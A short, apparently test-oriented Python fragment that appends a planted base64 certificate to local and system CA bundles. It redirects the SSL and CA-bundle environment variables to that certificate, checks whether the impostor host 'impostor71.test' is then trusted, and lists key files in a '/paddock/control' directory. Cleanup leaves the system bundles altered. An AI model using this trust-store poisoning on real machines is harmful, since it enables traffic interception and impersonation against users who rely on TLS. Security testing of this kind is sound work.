places = ["/tmp/authority.pem", os.path.expanduser("~/authority.pem"), "/workspace/authority.pem", "/paddock/control/authority.pem"]
for place in [*places, "/etc/ssl/certs/ca-certificates.crt", "/usr/local/share/ca-certificates/planted.crt"]:
    with contextlib.suppress(OSError), open(place, "ab") as file:
        file.write(base64.b64decode(os.environ["PLANTED"]))
os.environ |= dict.fromkeys(("SSL_CERT_FILE", "CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS"), places[0])
print("impostor:", echoed("impostor71.test", head("impostor71.test", path="/echo")))
print("keys of authorities:", " ".join(name for name in os.listdir("/paddock") + os.listdir("/paddock/control") if "ca" in name or "pem" in name) or "nothing")
for place in (*places[:1], places[2]):
    with contextlib.suppress(OSError):
        os.unlink(place)
